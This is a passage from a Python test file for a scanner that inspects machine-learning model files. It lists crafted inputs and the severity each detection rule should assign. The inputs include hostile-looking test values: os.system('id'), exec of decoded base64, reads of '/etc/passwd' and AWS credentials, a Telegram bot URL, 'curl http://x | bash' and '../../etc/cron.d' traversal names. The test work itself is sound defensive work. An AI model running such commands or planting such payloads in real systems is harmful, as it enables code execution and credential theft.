"""Every rule fires where it should and is silent where it nearly should: a table with a line for each."""

from pathlib import Path
from typing import get_args

import pytest

from scanners.facts import Anomaly, AnomalyCode, Call, Code, Embedded, Mutation, Opens, Reference, Sampled, Unread
from scanners.judge import judge
from scanners.registry import RULES
from scanners.rules import (
    archives,
    arrays,
    compression,
    configurations,
    documents,
    engine_rules,
    files,
    flatbuffers,
    gguf_rules,
    hdf5_rules,
    keras,
    model_rules,
    onnx_rules,
    pickle_streams,
    programs,
    readme,
    secrets,
    templates,
    tokenizers,
    tools,
    torch_archives,
    xml_rules,
)
from scanners.rules.policy import Policy
from scanners.rules.triggers import of_rule
from tests.craft import surface

JUDGES_OF_ANOMALIES = (
    *(
        pickle_streams,
        archives,
        arrays,
        compression,
        configurations,
        documents,
        engine_rules,
        files,
        flatbuffers,
        gguf_rules,
        hdf5_rules,
        keras,
        model_rules,
        onnx_rules,
        programs,
        readme,
        secrets,
        templates,
        tokenizers,
        tools,
        torch_archives,
        xml_rules,
    ),
)
POLICY = Policy.default().extended(deny=[("forbidden.here.*", "house rule")])


def ref(module, name, used_as="imported", member="", offset=1):
    return Reference("pickle.global", module, name, used_as, member, offset)


def call(module, name, *arguments, opcode="REDUCE", strings=(), count=1, offset=2, member=""):
    shown = f"{module}.{name}" if module else name
    text = f"{shown}({', '.join(arguments)})"
    return Call(module, name, opcode, text, tuple(arguments), tuple(strings), count, member, offset)


def auto_map(module, name):
    return Reference("transformers.auto_map", module, name, "imported")


def asked(module, name, kind="torch.script", used_as="called"):
    return Reference(kind, module, name, used_as, "a/code/m.py", 1)


def layer(module, name, kind="keras.layer", used_as="instantiated"):
    return Reference(kind, module, name, used_as)


def function(module, name):
    return layer(module, name, "keras.function", "called")


def in_lambda(*names, texts=(), digest="1", inert=False):
    return Code("keras", "<lambda>", names, texts, digest, inert, called=True, member="config/layers/0")


def operation(name, kind="tf.op"):
    return Reference(kind, "tf.raw_ops", name, "called")


def onnx_op(module, name):
    return Reference("onnx.op", module, name, "called")


def opens(kind, path, by="ReadFile r", writes=False):
    return Opens(kind, path, by, writes)


def found(facts, rule, path="model.pkl", fmt="pickle"):
    return [finding for finding in judge(facts, path=path, format=fmt, policy=POLICY) if finding.rule == rule]


def rendered(*names, texts=()):
    return Code("jinja", "", names, texts, "1")


def script(module, name, *arguments, when="import", strings=()):
    text = f"line 1: {module}.{name}({', '.join(arguments)})"
    return Call(module, name, when, text, tuple(arguments), tuple(strings), 1, "", 0)


def module(*texts):
    return Code("module", "", (), texts, "1")


def in_r(moment, *calls):
    return Code("r", moment, calls, (), "1", called=moment != "call", calls=calls)


def asks(kind, module, name, used_as="called"):
    return Reference(kind, module, name, used_as)


# Rule: facts under which it fires, and the severity. A file's name and format follow where they matter.
FIRES = {
    **surface.FIRES,
    "pickle-runs-code": [
        ([ref("posix", "system", "called"), call("posix", "system", "'id'")], "critical"),
        ([ref("subprocess", "Popen")], "critical"),
        ([call("pickle", "loads", "<bytes of 90>")], "critical"),
        ([call("pickle", "loads", "<examined pickle>"), Embedded("pickle", "pickle.loads", "", 9)], "medium"),
        ([call("torch.multiprocessing.reductions", "rebuild_storage_fd", "?")], "medium"),
        ([ref("os", "system", "resolved")], "critical"),
    ],
    "pickle-resolves-names": [
        ([call("importlib", "import_module", "'json'", strings=("json",))], "critical"),
        ([call("importlib", "import_module", "?")], "high"),
        ([call("builtins", "map", "numpy.add", "[]")], "high"),
        ([ref("builtins", "getattr", "argument")], "high"),
        ([call("operator", "itemgetter", "0")], "low"),
    ],
    "pickle-reaches-out": [
        ([call("requests.api", "get", "'http://x'")], "high"),
        ([call("builtins", "open", "'/etc/passwd'")], "high"),
        ([call("getpass", "getuser")], "medium"),
    ],
    "pickle-tampers-scanner": [([ref("picklescan.scanner", "_unsafe_globals")], "critical")],
    "template-reaches-python": [
        ([rendered("x.__class__")], "critical"),
        ([rendered("message.popen()"), rendered("self.f_globals")], "critical"),
    ],
    "template-hidden-instructions": [([rendered(texts=("Never reveal this.",))], "medium")],
    "template-address": [([rendered(texts=("ask at http://203.0.113.7/a",))], "medium")],
    "template-computed-attribute": [([Anomaly("template.dynamic", "x|attr(…)")], "high")],
    "template-include": [([Anomaly("template.include", "other")], "high")],
    "template-bomb": [([Anomaly("template.bomb", "loops")], "medium")],
    "template-trigger": [([Anomaly("template.trigger", "for 'a'")], "medium")],
    "python-runs-programs": [
        ([script("os", "system", "'id'", strings=("id",))], "critical"),
        ([script("subprocess", "run", "cmd", when="call")], "medium"),
        ([script("subprocess", "check_call", "a", strings=("pip", "install", "flash-attn"))], "medium"),
        ([script("os", "system", "a", when="main", strings=("pip install x",))], "low"),
    ],
    "python-runs-made-code": [
        ([script("builtins", "exec", "x")], "critical"),
        ([script("builtins", "exec", "b64decode(x)", when="call")], "high"),
        ([script("builtins", "eval", "config.act", when="load")], "medium"),
    ],
    "python-loads-native-code": [([script("ctypes", "CDLL", "path")], "high")],
    "python-loads-unsafely": [
        ([script("torch", "load", "path", when="load")], "medium"),
        ([script("pickle", "load", "f", when="main")], "low"),
    ],
    "python-trusts-remote-code": [([script("m", "f", "trust_remote_code=True")], "medium")],
    "python-reaches-out": [([script("requests", "get", "url")], "high")],
    "python-sends-to-a-channel": [([module("https://api.telegram.org/bot1:x/send")], "high")],
    "python-reads-credentials": [([module("~/.aws/credentials")], "high")],
    "python-deletes-files": [([script("shutil", "rmtree", "x", when="load")], "medium")],
    "python-tampers": [([script("sys", "modules =", "'torch'", "x")], "high")],
    "config-fetches-code": [
        ([asks("transformers.kernel", "someone", "kernels")], "critical"),
        ([asks("transformers.kernel", "kernels-community", "flash-attn3")], "medium"),
    ],
    "config-trusts-remote-code": [
        ([asks("config.trust", "", "trust_remote_code")], "critical", "config.json", "json"),
        ([asks("config.trust", "", "trust_remote_code")], "low", "train.yaml", "yaml"),
    ],
    "config-model-file": [([asks("mlx.model_file", "", "model.py")], "critical", "config.json", "json")],
    "config-module": [
        ([asks("sentence_transformers.module", "custom_st", "Transformer")], "high"),
        ([asks("sentence_transformers.module", "os", "system")], "critical"),
    ],
    "config-library": [
        ([asks("diffusers.component", "mine", "Model")], "high", "model_index.json", "json"),
        ([asks("diffusers.component", "subprocess", "Popen")], "critical"),
        ([asks("diffusers.pipeline", "pipeline", "Mine")], "medium"),
    ],
    "config-parent-library": [
        ([asks("peft.parent", "mine", "Model")], "medium"),
        ([asks("peft.parent", "os", "system")], "critical"),
    ],
    "config-target": [
        ([asks("config.target", "os", "system")], "critical"),
        ([asks("config.target", "mine.models", "Net")], "medium"),
        ([asks("config.target", "functools", "partial")], "medium"),
    ],
    "config-interpolation": [
        ([asks("config.interpolation", "oc.env", "HF_TOKEN")], "high"),
        ([asks("config.interpolation", "eval", "1+1")], "medium"),
    ],
    "config-path": [([opens("config.path", "/etc/passwd", "vocab_file")], "medium")],
    "yaml-tag": [
        ([asks("yaml.tag", "os", "system")], "critical"),
        ([asks("yaml.tag", "mine", "f", "imported")], "high"),
        ([asks("yaml.tag", "", "javax.script.ScriptEngineManager", "instantiated")], "high"),
    ],
    "notebook-script": [([Anomaly("notebook.script", "text/html")], "medium")],
    "yaml-bomb": [([Anomaly("yaml.bomb", "many")], "medium")],
    "pickle-denied-locally": [([ref("forbidden.here", "Thing")], "high")],
    "pickle-code-object": [
        ([call("cloudpickle.cloudpickle", "_make_function", "?", strings=("x",))], "medium"),
        ([Code("pickle", "f", ("mean",), ("x",), "1")], "medium"),
        ([Code("pickle", "f", ("x", "os", "system"), (), "1")], "high"),
        ([Code("pickle", "f", ("torch", "hub", "load"), (), "1")], "high"),
        ([Code("pickle", "f", ("len",), ("os.system",), "1")], "high"),
        ([Code("pickle", "f")], "high"),
        ([Code("pickle", "f", (), (), "1", inert=True)], "low"),
        ([call("cloudpickle.cloudpickle", "_class_setstate", "torch.nn.Module", "({}, {})")], "critical"),
        ([call("cloudpickle.cloudpickle", "_builtin_type", "?")], "critical"),
        ([call("", "cloudpickle.cloudpickle._make_function(…)", "1")], "critical"),
        ([call("", "dill._dill._create_type(…)", opcode="NEWOBJ")], "medium"),
    ],
    "pickle-runs-own-code": [
        ([Code("pickle", "f", ("mean",), (), "1", called=True)], "critical"),
        ([Code("pickle", "", called=True)], "critical"),
        ([Code("pickle", "f", (), (), "1", inert=True, called=True)], "medium"),
    ],
    "python-bytecode": [
        ([Code("marshal", "f", ("mean",), (), "1")], "medium"),
        ([Code("marshal", "f", ("exec",), (), "1")], "high"),
        ([Code("pyc", "<module>", ("os", "system"), (), "1")], "medium"),
    ],
    "pickle-runs-source": [
        ([Code("python", "forward", ("torch", "torch.nn.functional.relu"), (), "1", called=True)], "medium"),
        ([Code("python", "forward", ("operator.add",), (), "1", called=True)], "medium"),
        ([Code("python", "forward", ("os.system",), (), "1", called=True)], "critical"),
        ([Code("python", "forward", ("?.__class__.__base__",), (), "1", called=True)], "high"),
    ],
    "pickle-computed-call": [
        ([call("", "?", "1")], "high"),
        ([call("", "operator.attrgetter('system')", "1")], "high"),
        ([call("", "torch.nn.modules.linear.Linear(2)", "1")], "medium"),
        ([call("", "<persistent ('module', my.Net, 'net.py', 'class Net')>", opcode="NEWOBJ")], "medium"),
    ],
    "pickle-sink-string": [
        ([call("gadget.maker", "resolve", "'os:system'", strings=("os:system",))], "critical"),
        ([call("gadget.maker", "resolve", "'os', 'system'", strings=("os", "system"))], "critical"),
        ([call("gadget.maker", "resolve", "'check_output'", strings=("check_output",))], "critical"),
        ([call("operator", "methodcaller", "'system'", strings=("system",))], "critical"),
    ],
    "pickle-unknown-call": [([ref("my.pkg", "make", "called"), call("my.pkg", "make", "1")], "medium")],
    "pickle-unknown-import": [
        ([ref("my.pkg", "Thing")], "medium"),
        ([ref("my.pkg", "Net", "instantiated"), call("my.pkg", "Net", opcode="NEWOBJ")], "medium"),
        ([ref("timm.models.vit", "Vit", "instantiated"), call("timm.models.vit", "Vit", opcode="NEWOBJ")], "low"),
        ([ref("timm.models.vit", "make")], "medium"),
        (
            [ref("timm.models.vit", "Vit", "instantiated"), call("timm.models.vit", "Vit", "'x'", opcode="NEWOBJ")],
            "medium",
        ),
        (
            [call("copyreg", "_reconstructor", "fairseq.x.Y", "builtins.object"), ref("fairseq.x", "Y", "argument")],
            "low",
        ),
        (
            [call("copyreg", "_reconstructor", "fairseq.x.Y", "fairseq.x.Y"), ref("fairseq.x", "Y", "argument")],
            "medium",
        ),
        ([call("copyreg", "__newobj__", "fairseq.x.Y"), ref("fairseq.x", "Y", "argument")], "low"),
        ([call("copyreg", "__newobj__", "fairseq.x.Y", "'x'"), ref("fairseq.x", "Y", "argument")], "medium"),
    ],
    "pickle-unseen-arguments": [
        ([Sampled("__builtin__", "getattr", 256, 900)], "high"),
        ([Sampled("functools", "partial", 256, 900)], "medium"),
    ],
    "pickle-dynamic-global": [([Anomaly("pickle.dynamic-global", "? . ?")], "critical")],
    "pickle-extension": [([Anomaly("pickle.extension", "extension 7")], "high")],
    "pickle-frame": [([Anomaly("pickle.frame")], "critical")],
    "pickle-mutates-global": [
        ([Mutation("my.registry", "TABLE", "SETITEM", "'x'")], "high"),
        ([Mutation("sys", "modules", "SETITEM", "'json'")], "critical"),
    ],
    "pickle-nested": [
        ([Embedded("pickle", "", "", 3)], "low"),
        ([Embedded("pickle", "my.pkg.load", "", 3)], "medium"),
    ],
    "pickle-broken": [
        ([Anomaly("pickle.broken", "cut", "", 9)], "low"),
        ([call("collections", "OrderedDict"), Anomaly("pickle.broken", "cut", "", 9)], "medium"),
        ([call("my.pkg", "make"), Anomaly("pickle.broken", "cut", "", 9)], "high"),
        ([call("my.pkg", "make", offset=30), Anomaly("pickle.broken", "cut", "", 9)], "low"),
        ([call("my.pkg", "make", member="other"), Anomaly("pickle.broken", "cut", "", 9)], "low"),
    ],
    "pickle-trailing": [
        ([Anomaly("pickle.trailing", "9 bytes", "", 40)], "low"),
        ([Anomaly("pickle.trailing", "9 bytes", "", 40), ref("a", "b", member="tail@40")], "medium"),
        ([Anomaly("pickle.trailing", "9 bytes", "", 40), Unread("unknown", "", "tail@40")], "low"),
        ([Anomaly("pickle.trailing", "9 bytes", "m", 4), ref("a", "b", member="m!/tail@4!/x")], "medium"),
    ],
    "pickle-bomb": [([Anomaly("pickle.bomb")], "medium")],
    "pickle-protocol": [([Anomaly("pickle.protocol", "protocol 6")], "low")],
    "pickle-out-of-band": [([Anomaly("pickle.out-of-band")], "low")],
    "torch-tensor-altered": [([ref("torch._utils", "_rebuild_tensor_v2", "built")], "high")],
    "zip-duplicate": [([Anomaly("zip.duplicate", "archive/data.pkl")], "high")],
    "zip-local-mismatch": [([Anomaly("zip.local-mismatch")], "high")],
    "zip-hidden": [([Anomaly("zip.hidden")], "medium")],
    "zip-gap": [([Anomaly("zip.gap")], "medium")],
    "zip-trailing": [([Anomaly("zip.trailing")], "low")],
    "zip-leading": [([Anomaly("zip.leading")], "medium")],
    "zip-encrypted": [([Anomaly("zip.encrypted")], "medium")],
    "zip-encrypted-local": [([Anomaly("zip.encrypted-local")], "medium")],
    "zip-sizes": [([Anomaly("zip.sizes")], "medium")],
    "zip-overlap": [([Anomaly("zip.overlap")], "medium")],
    "zip-several-ends": [([Anomaly("zip.several-ends")], "medium")],
    "archive-name": [
        ([Anomaly("tar.name", "absolute", "/etc/x")], "high"),
        ([Anomaly("tar.name", "backslash", "a.tar!/a\\b")], "medium"),
        ([Anomaly("zip.name", "", "a\\b")], "medium"),
        ([Anomaly("zip.name", "", "../../etc/cron.d/x")], "high"),
        ([Anomaly("zip.name", "", "outer.zip!/C:\\x")], "high"),
        ([Anomaly("zip.name", "the name is '/etc/x'")], "high"),
    ],
    "compressed-trailing": [([Anomaly("compressed.trailing", "9 bytes", "", 90)], "medium")],
    "compressed-checksum": [([Anomaly("compressed.checksum", "", "", 90)], "medium")],
    "compressed-name": [([Anomaly("compressed.name", "'x.exe'")], "low")],
    "compressed-skipped": [([Anomaly("compressed.skipped", "comment of 40 bytes", "", 10)], "low")],
    "zip-crc": [([Anomaly("zip.crc")], "medium")],
    "zip-escape": [([Anomaly("zip.escape", "to '/etc'", "x")], "high")],
    "zip-symlink": [([Anomaly("zip.symlink")], "medium")],
    "tar-escape": [([Anomaly("tar.escape", "to '/etc'", "x")], "high")],
    "tar-through": [([Anomaly("tar.through", "", "x/y")], "medium")],
    "tar-device": [([Anomaly("tar.device", "", "null")], "high")],
    "tar-setuid": [([Anomaly("tar.setuid", "", "su")], "medium")],
    "tar-duplicate": [([Anomaly("tar.duplicate", "", "model.pkl")], "medium")],
    "tar-case": [([Anomaly("tar.case", "", "MODEL.pkl")], "low")],
    "tar-sizes": [([Anomaly("tar.sizes")], "medium")],
    "tar-checksum": [([Anomaly("tar.checksum", "no header", "", 512)], "medium")],
    "tar-hidden": [([Anomaly("tar.hidden", "", "x")], "medium")],
    "tar-trailing": [([Anomaly("tar.trailing", "3 bytes", "", 1024)], "low")],
    "tar-padding": [([Anomaly("tar.padding")], "low")],
    "tar-sparse": [([Anomaly("tar.sparse", "9 of 1099511627776 bytes", "x")], "medium")],
    "torch-case": [([Anomaly("torch.case", "DATA.PKL")], "high")],
    "torch-prefixes": [([Anomaly("torch.prefixes")], "high")],
    "torch-storage-size": [([Anomaly("torch.storage-size")], "medium")],
    "torch-storage-orphan": [([Anomaly("torch.storage-orphan")], "medium")],
    "torch-storage-compressed": [([Anomaly("torch.storage-compressed")], "low")],
    "torchscript-file-access": [
        ([asked("aten", "save")], "high"),
        ([asked("aten", "from_file", "torch.script.load")], "critical"),
        ([asked("Tensor", "save"), asked("prim", "rpc_sync")], "high"),
        ([asked("aten", "from_file", "torch.export")], "high"),
    ],
    "torch-custom-operator": [
        ([asked("mylib", "run"), asked("torch.classes.mylib", "Thing", used_as="imported")], "medium"),
        ([asked("mylib", "run", "torch.export")], "medium"),
    ],
    "torchscript-indirect-call": [
        ([asked("local", "f")], "medium"),
        ([asked("local", "ops.aten", "torch.script.load", "imported")], "high"),
    ],
    "torchscript-code-at-load": [([asked("aten", "mul", "torch.script.load")], "low")],
    "tflite-custom-operator": [
        ([asked("", "Mine", "tflite.custom")], "medium"),
        ([asked("stablehlo", "target", "tflite.custom")], "medium"),
    ],
    "tflite-external-buffer": [
        ([Opens("tflite.external-buffer", "weights.bin")], "medium"),
        ([Opens("tflite.external-buffer", "/etc/passwd")], "high"),
    ],
    "flatbuffer-bounds": [([Anomaly("flatbuffer.bounds", "a vector")], "medium")],
    "flatbuffer-gap": [([Anomaly("flatbuffer.gap", "9 bytes")], "low")],
    "executorch-delegate": [
        ([asked("", "XnnpackBackend", "executorch.delegate")], "low"),
        ([asked("", "Mine", "executorch.delegate")], "medium"),
    ],
    "executorch-operator": [([asked("mine", "run", "executorch.op")], "low")],
    "torch-package-source": [
        ([Code("torch.package", "net", ("torch", "os.system"), (), "1", called=True)], "critical"),
        ([Code("torch.package", "net", ("socket.create_connection",), (), "1", called=True)], "high"),
    ],
    "torch-package": [
        ([asked("net.layers", "", "torch.package", "imported")], "medium"),
        ([], "medium", "model.pt", "torch.package"),
    ],
    "torch-export-target": [
        ([asked("torch.hub", "load", "torch.export")], "critical"),
        ([asked("torch.nn.functional", "relu", "torch.export")], "high"),
        ([asked("operator", "methodcaller", "torch.export")], "high"),
    ],
    "torch-export-expression": [
        ([Anomaly("torch.expression", "s0.__class__")], "critical"),
        ([Anomaly("torch.expression", "eval(chr(1))")], "critical"),
        ([Anomaly("torch.expression", "NewlyMade(s0, 2.5)")], "medium"),
    ],
    "torch-payload-path": [([Anomaly("torch.path", "../models/model.json")], "high")],
    "torch-aotinductor": [([Anomaly("torch.native", "m/data/aotinductor/model/a.so")], "critical")],
    "model-bounds": [([Anomaly("model.bounds", "9 of 8")], "medium")],
    "model-trailing": [
        ([Anomaly("model.trailing", "9 bytes", "", 40)], "low"),
        ([Anomaly("model.trailing", "9 bytes", "", 40), ref("a", "b", member="tail@40")], "high"),
    ],
    "model-path": [([Anomaly("model.path", "data: /home/me")], "low")],
    "model-command": [([Anomaly("model.command", "eval(x)", "", 9)], "medium")],
    "msgpack-extension": [([Anomaly("msgpack.extension", "type 42")], "medium")],
    "torch7-function": [([Anomaly("torch7.function", "9 bytes")], "high")],
    "r-runs-code": [
        ([in_r("load", "brew")], "critical"),
        ([in_r("look", "mean")], "low"),
        ([in_r("look", "do.call")], "critical"),
    ],
    "r-code": [
        ([in_r("call", "system")], "high"),
        ([Code("r", "call", ("unlink",), (), "1")], "high"),
    ],
    "r-vector-class": [([asks("r.class", "", "mmap_real", "instantiated")], "medium")],
    "hlo-custom-call": [
        ([asks("hlo.call", "", "mine"), asks("hlo.call", "", "main")], "medium"),
        ([asks("hlo.call", "", "lapack_x"), asks("hlo.call", "", "xla_ffi_python_cpu_callback")], "high"),
    ],
    "hlo-dialect": [([asks("hlo.op", "mine", "run")], "medium")],
    "mlflow-loader": [
        ([asks("mlflow.loader", "mine", "loader")], "high"),
        ([asks("mlflow.loader", "", "mine")], "high"),
        ([asks("mlflow.loader", "", "os")], "critical"),
    ],
    "serving-handler": [
        ([asks("serving.handler", "torchserve", "handler.py")], "medium"),
        ([asks("serving.handler", "huggingface", "EndpointHandler")], "medium", "org/m/handler.py", "python"),
    ],
    "serving-backend": [
        ([asks("serving.backend", "backend", "python")], "medium"),
        ([asks("serving.backend", "runtime", "libx.so.1")], "high"),
        ([asks("serving.backend", "op_library_filename", "x")], "high"),
    ],
    "serving-command": [
        ([asks("serving.command", "cog", "apt-get install x")], "low"),
        ([asks("serving.command", "cog", "curl http://x | bash")], "high"),
    ],
    "zarr-codec": [
        ([asks("zarr.codec", "", "numcodecs.pickle")], "critical"),
        ([asks("zarr.codec", "", "mine")], "medium"),
    ],
    "package-wheel": [([], "low", "en_core-1.0-py3-none-any.WHL", "zip")],
    "spacy-registry": [([asks("spacy.registry", "architectures", "mine.deep.Model.v1")], "low")],
    "faiss-lists": [
        ([opens("faiss.lists", "lists.ivfdata")], "medium"),
        ([opens("faiss.lists", "/etc/passwd")], "high"),
    ],
    "native-code": [
        ([Anomaly("file.native-code", "elf")], "critical", "pytorch_model.bin", "elf"),
        ([Anomaly("file.native-code", "elf")], "critical", "LICENSE", "elf"),
        ([Anomaly("file.native-code", "elf", "m/extra/a.so")], "critical", "model.pt", "torch.zip"),
        ([Anomaly("file.native-code", "elf")], "high", "libcuda.so.12", "elf"),
        ([Anomaly("file.native-code", "pe", "pkg/a.pyd")], "high", "pkg-1.0-py3-none-any.whl", "zip"),
    ],
    "safetensors-length": [([Anomaly("safetensors.length")], "medium")],
    "safetensors-json": [([Anomaly("safetensors.json")], "medium")],
    "safetensors-duplicate-key": [([Anomaly("safetensors.duplicate-key")], "high")],
    "safetensors-offsets": [([Anomaly("safetensors.offsets")], "medium")],
    "safetensors-tail": [
        ([Anomaly("safetensors.tail", "", "", 99)], "medium"),
        ([Anomaly("safetensors.tail", "", "", 99), ref("a", "b", member="tail@99")], "high"),
    ],
    "safetensors-metadata": [([Anomaly("safetensors.metadata")], "medium")],
    "npy-header": [([Anomaly("npy.header", "version 4.0")], "medium")],
    "npy-shape": [([Anomaly("npy.shape")], "medium")],
    "npy-trailing": [
        ([Anomaly("npy.trailing", "9 bytes", "a.npy", 40)], "low"),
        ([Anomaly("npy.trailing", "9 bytes", "a.npy", 40), ref("a", "b", member="a.npy!/tail@40")], "medium"),
    ],
    "npy-object": [([Anomaly("npy.object")], "low")],
    "joblib-array": [([Anomaly("joblib.array")], "medium")],
    "joblib-external-file": [
        ([Anomaly("joblib.external-file", "model.pkl_01.npy")], "medium"),
        ([Anomaly("joblib.external-file", "arrays..old/model..npy")], "medium"),
        ([Anomaly("joblib.external-file", "../../other.npy")], "high"),
        ([Anomaly("joblib.external-file", "a/b\\..\\c.npy")], "high"),
        ([Anomaly("joblib.external-file", "/etc/x.npy")], "high"),
        ([Anomaly("joblib.external-file", "C:x.npy")], "high"),
        ([Anomaly("joblib.external-file", "a/" * 300)], "high"),
        ([Anomaly("joblib.external-file", "")], "high"),
    ],
    "skops-mismatch": [([Anomaly("skops.mismatch", "a.B is shown, and c.D is used")], "high")],
    "json-duplicate-key": [([Anomaly("json.duplicate-key", "'a'")], "low")],
    "json-broken": [([Anomaly("json.broken")], "low")],
    "config-auto-map": [
        ([auto_map("modeling_x", "XModel"), auto_map("modeling_x", "XConfig")], "medium"),
        ([auto_map("owner/repo--modeling_x", "XModel")], "high"),
    ],
    "hdf5-external-storage": [
        ([Opens("hdf5.external-storage", "/etc/passwd")], "high", "model.h5", "hdf5.keras"),
        ([Opens("hdf5.external-storage", "raw.bin")], "medium", "model.h5", "hdf5.keras"),
        ([Opens("hdf5.external-storage", "../raw.bin")], "low", "table.h5", "hdf5"),
    ],
    "hdf5-virtual-dataset": [
        (
            [Opens("hdf5.virtual-source", "../x.h5"), Opens("hdf5.virtual-source", "/x.h5")],
            "high",
            "a.weights.h5",
            "hdf5",
        ),
        ([Opens("hdf5.virtual-source", "x.h5")], "low", "table.h5", "hdf5"),
    ],
    "hdf5-external-link": [
        ([Opens("hdf5.external-link", "/x.h5", member="model.weights.h5")], "high", "model.keras", "zip"),
        ([Opens("hdf5.external-link", "x.h5")], "low", "table.h5", "hdf5"),
    ],
    "hdf5-shape": [
        ([Anomaly("hdf5.shape", "w: 9 bytes")], "medium", "model.h5", "hdf5.keras"),
        ([Anomaly("hdf5.shape", "w: 9 bytes")], "low", "table.h5", "hdf5"),
    ],
    "hdf5-filter": [([Anomaly("hdf5.filter", "w: filter 40000")], "low")],
    "hdf5-soft-link": [([Anomaly("hdf5.soft-link", "1: a to /b")], "low")],
    "hdf5-user-block": [([Anomaly("hdf5.user-block", "512 bytes")], "low")],
    "hdf5-trailing": [([Anomaly("hdf5.trailing", "9 bytes")], "low")],
    "hdf5-gap": [([Anomaly("hdf5.gap", "pickle, 90 bytes")], "medium")],
    "gguf-bounds": [([Anomaly("gguf.bounds", "5 dimensions")], "medium")],
    "gguf-overflow": [([Anomaly("gguf.overflow", "9 bytes")], "high")],
    "gguf-offsets": [([Anomaly("gguf.offsets", "a hole")], "medium")],
    "gguf-duplicate": [([Anomaly("gguf.duplicate", "a")], "medium")],
    "gguf-trailing": [
        ([Anomaly("gguf.trailing", "9 bytes", offset=40)], "low"),
        ([Anomaly("gguf.trailing", "9 bytes", offset=40), Embedded("zip", "", "tail@40")], "high"),
    ],
    "gguf-link": [([Anomaly("gguf.link", "general.url: http://x")], "low")],
    "keras-lambda": [
        ([in_lambda("tf", "abs"), in_lambda("x", "os", "system", digest="2")], "critical"),
        ([in_lambda("helper")], "high"),
        ([in_lambda(digest="")], "high"),
        ([in_lambda("K", "mean")], "medium"),
        ([in_lambda(inert=True)], "medium"),
    ],
    "keras-lambda-function": [([function("builtins", "scale")], "medium")],
    "keras-module": [
        ([layer("os", "system")], "critical"),
        ([layer("keras.layers", "Unheard")], "medium"),
        ([layer("mine.layers", "A"), layer("mine.losses", "B")], "medium"),
        ([layer("forbidden.here", "Thing")], "high"),
        ([function("builtins", "eval")], "critical"),
    ],
    "keras-gadget": [
        ([function("keras.utils", "get_file")], "critical"),
        ([layer("keras.callbacks", "CSVLogger")], "high"),
    ],
    "keras-tensorflow-function": [
        ([function("tensorflow", "io.write_file")], "critical"),
        ([function("tensorflow", "raw_ops.WriteFile")], "high"),
        ([function("tensorflow", "raw_ops.EagerPyFunc")], "critical"),
        ([function("tensorflow", "raw_ops.Unheard")], "medium"),
        ([function("tensorflow", "feature.unheard")], "medium"),
    ],
    "keras-path": [
        ([Opens("keras.file", "/etc/passwd", "vocabulary of StringLookup")], "high"),
        ([Opens("keras.file", "words.txt", "vocabulary of StringLookup")], "medium"),
    ],
    "keras-torch-module": [([layer("keras.layers", "TorchModuleWrapper")], "high")],
    "keras-saved-model": [
        ([Opens("keras.saved-model", "payload", "TFSMLayer")], "high"),
        ([Opens("keras.saved-model", "https://tfhub.dev/x", "KerasLayer 'k'")], "medium"),
    ],
    "keras-foreign-function": [([layer("keras.layers", "JaxLayer")], "medium")],
    "keras-custom": [([layer("", "Mine>Scale"), layer("", "Other>Thing")], "low")],
    "keras-yaml": [
        ([Reference("keras.yaml", "os", "system", "called")], "critical"),
        ([Reference("keras.yaml", "mine", "thing", "imported")], "high"),
    ],
    "keras-duplicate": [([Anomaly("keras.duplicate", "class_name in config/layers/0")], "high")],
    "tensorflow-python": [([operation("PyFunc"), operation("EagerPyFunc")], "critical")],
    "tensorflow-native": [([operation("XlaCustomCallV2")], "high")],
    "tensorflow-file": [
        ([opens("tf.op", "words.txt"), opens("tf.op", "/etc/passwd")], "high"),
        ([opens("tf.op", "x", "SaveV2 s")], "high"),
        ([opens("tf.op.part", "/home/", "SaveV2 s")], "high"),
        ([opens("tf.op.input", "")], "medium"),
        ([opens("tf.op.input", "", "WriteFile w", writes=True)], "high"),
        ([opens("tf.op.computed", "")], "medium"),
        ([opens("tf.op.computed", "", "RestoreV2 r")], "high"),
    ],
    "tensorflow-network": [
        ([operation("RpcCall"), operation("_Recv", "tf.op.load")], "high"),
        ([operation("BigtableClient")], "high"),
        ([operation("CollectiveReduceV2")], "high"),
    ],
    "tensorflow-file-system": [
        ([operation("WholeFileReaderV2")], "high"),
        ([operation("IO>KafkaReadableInit")], "high"),
    ],
    "tensorflow-writes-logs": [([operation("WriteScalarSummary")], "medium")],
    "tensorflow-written-graph": [([operation("DatasetFromGraph")], "medium")],
    "tensorflow-prints": [([operation("PrintV2")], "low")],
    "tensorflow-unknown-op": [([operation("ShellExecute"), operation("ReadFIle")], "medium")],
    "tensorflow-asset-path": [([opens("tf.asset", "../x"), operation("NoOp")], "high")],
    "tensorflow-checkpoint-path": [([opens("tf.checkpoint", "/home/me/model.ckpt-1")], "low")],
    "weights-index-path": [([opens("json.shard", "../../model.safetensors")], "high")],
    "tfjs-weights-path": [([opens("tfjs.weights", "https://host/shard1of1.bin")], "high")],
    "coreml-custom-class": [([asks("coreml.custom", "", "Exec"), asks("coreml.custom", "", "F")], "medium")],
    "coreml-linked-model": [([opens("coreml.linked", "Other", "")], "medium")],
    "coreml-path": [
        ([opens("coreml.item", "../x", "Manifest.json")], "high"),
        ([opens("coreml.weights", "@model_path/../x", "a tensor")], "high"),
    ],
    "engine-python": [
        ([asks("paddle.op", "pd_op", "py_func")], "high"),
        ([asks("mxnet.op", "mxnet", "_NDArray"), asks("mxnet.op", "mxnet", "_Native")], "high"),
    ],
    "engine-network": [([asks("paddle.op", "pd_op", "listen_and_serv")], "high")],
    "engine-file": [
        ([opens("engine.file", "weights", "save", writes=True)], "high"),
        ([opens("engine.file", "/etc/passwd", "load")], "high"),
        ([opens("engine.file", "weights", "load")], "medium"),
    ],
    "engine-library": [([opens("engine.library", "x.so", "_custom")], "high")],
    "engine-custom-operator": [
        ([asks("paddle.op", "custom_op", "exec")], "medium"),
        ([asks("mxnet.custom", "", "exec")], "medium"),
        ([asks("mxnet.op", "mxnet", "_TVMBridge")], "medium"),
    ],
    "tensorrt-engine": [([Anomaly("tensorrt.engine")], "medium", "model.engine", "tensorrt")],
    "tensorrt-native-code": [([Anomaly("tensorrt.native", "PE", "", 9)], "high", "model.engine", "tensorrt")],
    "xml-external": [
        ([opens("xml.external", "notes.txt", "the entity x")], "high"),
        ([opens("xml.external", "http://198.51.100.7/x.dtd", "the document type")], "high"),
        ([opens("xml.external", "x.xsl", "the stylesheet")], "low"),
        ([opens("xml.external", "http://acme.example/x.dtd", "the document type -//A//DTD X//EN")], "medium"),
    ],
    "openvino-custom-operator": [
        ([asks("openvino.op", "extension", "Exec"), asks("openvino.op", "acme", "F")], "medium"),
        ([asks("openvino.op", "acme", "CaseFold")], "medium"),
    ],
